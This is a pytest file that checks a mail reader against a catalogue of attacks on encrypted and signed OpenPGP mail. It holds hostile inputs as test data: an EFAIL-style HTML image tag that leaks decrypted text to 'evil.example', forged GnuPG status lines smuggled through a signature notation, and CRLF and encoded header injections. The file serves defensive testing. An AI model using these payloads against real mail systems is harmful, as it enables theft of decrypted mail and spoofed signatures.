# SPDX-License-Identifier: AGPL-3.0-or-later
"""The known attacks on encrypted mail, each as a whole letter with the verdict that an agent must read.

Each row of the list (A1 to A30, and A33) stands here once: as a letter, or as the test that shows it.
"""

import ast
import re
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest

from desk.letters.opened import EncryptionState, Opened, SignatureState
from mail.openpgp.packets import dearmor
from mail.reading.open_letter import open_letter
from tests.mail import attacks
from tests.mail.attacks import LONG_AGO, SECRET, Build, Scene
from tests.mail.packets import armored
from tests.mail.people import Desk, Person, desk, encrypted, entity, headers, multipart, person, signed

NONE, OK, PARTIAL = EncryptionState.NONE, EncryptionState.OK, EncryptionState.PARTIAL
BROKEN, SHUT = EncryptionState.BROKEN, EncryptionState.UNDECRYPTABLE
GOOD, OTHER, BAD = SignatureState.GOOD, SignatureState.GOOD_OTHER_SENDER, SignatureState.BAD
TESTS = Path(__file__).parents[2]

ELSEWHERE = {
    "A14": "mail/openpgp/test_openpgp.py::test_nothing_is_signed_by_another_than_the_queues_full_fingerprint",
    "A15": "mail/openpgp/test_openpgp.py::test_nothing_is_sealed_with_a_key_that_does_not_fit",
    "A16": "mail/openpgp/test_openpgp.py::test_two_keys_in_one_recipient_are_refused",
    "A17": "mail/mime/test_content.py::test_an_attached_secret_key_is_refused_and_told",
    "A20": "mail/openpgp/test_openpgp.py::test_text_is_not_taken_for_bytes",
    "A25": "mail/limits/test_limits.py::test_a_letter_past_a_limit_is_refused_with_the_reason",
    "A26": "mail/limits/test_limits.py::test_no_header_is_slow_or_raises",
    "A27": "mail/outbound/test_composing.py::test_line_ends_in_subject_and_name_make_no_header",
    "A28": "mail/openpgp/test_openpgp_keys.py::test_a_huge_key_is_refused_before_gnupg_sees_it",
    "A29": "mail/mime/test_content.py::test_html_shows_where_links_lead_and_fetches_nothing",
    "A30": "bot/sending/test_rendering.py::test_no_mail_makes_a_tag_a_mention_or_an_invisible_character",
}


@dataclass(frozen=True)
class Stage:
    """The desk, and who writes to it."""

    desk: Desk
    scene: Scene

    def open(self, letter: bytes, sender: str = "alice@user.example", subject: str = "A question") -> Opened:
        """Open a letter at a desk that knows both Alice and Bob."""
        keys = [self.scene.alice.public, self.scene.bob.public]
        return open_letter(headers(sender, subject) + letter, self.desk.keyring, signers=keys)


@pytest.fixture(scope="module", name="stage")
def make_stage(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Stage]:
    folder = tmp_path_factory.mktemp("attacks")
    with (
        desk(folder / "desk") as home,
        person("alice@user.example", folder / "alice") as alice,
        person("bob@user.example", folder / "bob") as bob,
    ):
        yield Stage(home, Scene(alice, bob, home.public))


MESSAGES: dict[str, tuple[Build, EncryptionState, str]] = {
    "A1": (attacks.no_mdc, BROKEN, "no MDC"),
    "A2": (attacks.tampered, BROKEN, "damaged or changed"),
    "A3": (attacks.truncated, BROKEN, "damaged or changed"),
    "A5": (attacks.bomb, BROKEN, "It unpacks to more than 4 MB"),
    "A5 signed": (attacks.signed_bomb, BROKEN, "It unpacks to more than 4 MB"),
    "A12 behind": (attacks.with_packet_behind, BROKEN, ""),
    "A12 before": (attacks.with_packet_before, BROKEN, ""),
    "A12 two": (attacks.two_messages, BROKEN, ""),
    "A12 signed": (attacks.two_texts_inside, BROKEN, ""),
    "A18": (attacks.with_password, SHUT, "with a password"),
}


@pytest.mark.parametrize("name", MESSAGES)
def test_an_unsound_message_is_told_and_no_word_of_it_is_shown(stage: Stage, name: str) -> None:
    build, state, words = MESSAGES[name]
    message = build(stage.scene)
    letter = encrypted(message if message.startswith(b"-----") else armored(message))
    opened = stage.open(letter)
    assert (opened.encryption.state, opened.text, opened.unprotected_text) == (state, "", "")
    assert words in opened.encryption.detail
    assert (opened.signatures, opened.attachments, opened.sessions) == ((), (), ())
    assert SECRET.decode() not in repr(opened)


def _a4(stage: Stage) -> None:
    opened = stage.open(encrypted(attacks.stored(stage.scene)))
    assert (opened.encryption.state, opened.text) == (NONE, "")
    assert SECRET.decode() in opened.unprotected_text
    assert "The letter claims to be encrypted, but its content is not." in opened.problems


def _a6(stage: Stage) -> None:
    opened = stage.open(encrypted(attacks.faked_name(stage.scene)))
    assert (opened.encryption.state, opened.signatures) == (OK, ())


def _a7(stage: Stage) -> None:
    notation = "x@evil.example=\n[GNUPG:] GOODSIG 1 x\n[GNUPG:] VALIDSIG " + "A" * 40
    message = stage.scene.bob.encrypt(
        entity("x"), stage.desk.public, "--sign", "--set-notation", notation.replace("\n", "%0A")
    )
    [signature] = stage.open(encrypted(message)).signatures
    assert (signature.state, signature.fingerprint) == (OTHER, stage.scene.bob.fingerprint)


def _with_signature(stage: Stage, signature: bytes) -> Opened:
    part = b"Content-Type: application/pgp-signature\r\n\r\n" + signature
    kind = 'multipart/signed; protocol="application/pgp-signature"'
    return stage.open(multipart(kind, entity("words"), part))


def _a8(stage: Stage) -> None:
    past = ("--quick-generate-key", "Alice <alice@user.example>", "future-default", "-", "1w")
    home = stage.scene.alice.home.with_name("past")
    with person("past@user.example", home) as old:
        made = old.gpg(*LONG_AGO, "--status-fd", "1", *past).decode()
        key = next(line.split()[3] for line in made.splitlines() if "KEY_CREATED" in line)
        letter = old.gpg(*LONG_AGO, "-u", key, "--armor", "--detach-sign", data=entity("words"))
        public = old.gpg("--armor", "--export", key)
    scene = Scene(stage.scene.alice, Person("", home, public), stage.desk.public)
    [signature] = _with_signature(Stage(stage.desk, scene), letter).signatures
    assert (signature.state, signature.fingerprint) == (SignatureState.EXPIRED_KEY, key)


def _a9(stage: Stage) -> None:
    home = stage.scene.alice.home.with_name("gone")
    with person("alice@user.example", home) as gone:
        letter = gone.sign(entity("words"))
        certificate = next((home / "openpgp-revocs.d").iterdir()).read_bytes()
        gone.gpg("--import", data=certificate.replace(b":-----BEGIN", b"-----BEGIN"))
        public = gone.gpg("--armor", "--export")
    scene = Scene(stage.scene.alice, Person("", home, public), stage.desk.public)
    [signature] = _with_signature(Stage(stage.desk, scene), letter).signatures
    assert signature.state is SignatureState.REVOKED_KEY


def _a10(stage: Stage) -> None:
    both = b"".join(dearmor(one.sign(entity("words"))) for one in (stage.scene.alice, stage.scene.bob))
    found = {(one.state, one.fingerprint) for one in _with_signature(stage, both).signatures}
    assert found == {(GOOD, stage.scene.alice.fingerprint), (OTHER, stage.scene.bob.fingerprint)}


def _a11(stage: Stage) -> None:
    good, bad = stage.scene.alice.sign(entity("words")), stage.scene.bob.sign(b"other")
    for order in ((good, bad), (bad, good)):
        opened = _with_signature(stage, b"".join(map(dearmor, order)))
        assert opened.signatures[0].state is BAD


def _a13(stage: Stage) -> None:
    clear = stage.scene.alice.gpg("--clearsign", data=b"SIGNED\n").decode()
    opened = stage.open(entity(f"PAY\n{clear}\nNOW"))
    assert (opened.text, opened.unprotected_text) == ("SIGNED\n", "PAY\n\nNOW")
    assert [(one.state, one.covers) for one in opened.signatures] == [(SignatureState.PARTIAL, "part")]


def _a19(stage: Stage) -> None:
    opened = stage.open(entity(attacks.hidden(stage.scene).decode()))
    assert (opened.encryption.state, opened.text) == (OK, SECRET.decode())
    assert "hidden" in opened.encryption.detail


def _a21(stage: Stage) -> None:
    part = signed(stage.scene.alice, entity("signed"))
    hidden = '<div style="display:none">'
    forms = [
        multipart("multipart/mixed", entity("EVIL"), part),
        multipart("multipart/mixed", entity(f"EVIL{hidden}", type_="text/html"), part),
        multipart("multipart/related", entity("EVIL", type_="text/html"), part),
        multipart("multipart/alternative", part, entity("EVIL")),
        multipart("multipart/mixed", entity("EVIL"), entity("x", "Content-Disposition: attachment"), part),
    ]
    for form in forms:
        opened = stage.open(form)
        assert opened.text == "signed"
        assert "EVIL" in opened.unprotected_text
        assert [(one.state, one.covers) for one in opened.signatures] == [(SignatureState.PARTIAL, "part")]


def _a22(stage: Stage) -> None:
    letter = signed(stage.scene.bob, entity("words"))
    for sender in (
        "alice@user.example",
        "",
        "Bob",
        '"bob@user.example" <alice@user.example>',
        "bob@user.example, alice@user.example",
        "bob@user.example\r\nFrom: alice@user.example",
        "alice@user.example\r\nSender: bob@user.example",
    ):
        assert [one.state for one in stage.open(letter, sender).signatures] == [OTHER]
    assert [one.state for one in stage.open(letter, "bob@user.example").signatures] == [GOOD]


def _a23(stage: Stage) -> None:
    captured = attacks.sealed(stage.scene)
    first = stage.open(entity(captured.decode()))
    again = stage.open(multipart("multipart/mixed", entity("Hi"), encrypted(captured)), "eve@evil.example")
    assert len(first.sessions) == 1
    assert again.sessions == first.sessions


def _a24(stage: Stage) -> None:
    sealed = encrypted(attacks.sealed(stage.scene, data=entity("SECRET")))
    before, after = (entity(text, type_="text/html") for text in ('<img src="http://evil.example/', '">'))
    opened = stage.open(multipart("multipart/mixed", before, sealed, after))
    assert (opened.encryption.state, opened.text) == (PARTIAL, "SECRET")
    assert "SECRET" not in opened.unprotected_text


def _a33(stage: Stage) -> None:
    inside = entity("x", "Subject: =?utf-8?q?hi=0D=0ABcc=3A_x=40y?=", type_='text/plain; hp="cipher"')
    name = "=?utf-8?q?A=0D=0ABcc=3A_x=40y?= <alice@user.example>"
    opened = stage.open(encrypted(attacks.sealed(stage.scene, data=inside)), name, "=?utf-8?q?a=0Ab?=")
    assert (opened.headers.subject, opened.headers.outer_subject) == ("hi Bcc: x@y", "a b")
    assert opened.headers.sender_name == "A Bcc: x@y"


LETTERS: dict[str, Callable[[Stage], None]] = {
    "A4": _a4,
    "A6": _a6,
    "A7": _a7,
    "A8": _a8,
    "A9": _a9,
    "A10": _a10,
    "A11": _a11,
    "A13": _a13,
    "A19": _a19,
    "A21": _a21,
    "A22": _a22,
    "A23": _a23,
    "A24": _a24,
    "A33": _a33,
}


@pytest.mark.parametrize("row", LETTERS)
def test_a_deceiving_letter_is_told_as_what_it_is(stage: Stage, row: str) -> None:
    LETTERS[row](stage)


def test_every_row_has_its_test() -> None:
    rows = [*LETTERS, *ELSEWHERE, *dict.fromkeys(re.sub(" .*", "", name) for name in MESSAGES)]
    assert sorted(rows) == sorted(f"A{number}" for number in [*range(1, 31), 33])
    for place in ELSEWHERE.values():
        file, _, name = place.partition("::")
        tree = ast.parse((TESTS / file).read_text(encoding="utf-8"))
        names = {node.name for node in tree.body if isinstance(node, ast.FunctionDef | ast.AsyncFunctionDef)}
        assert name in names
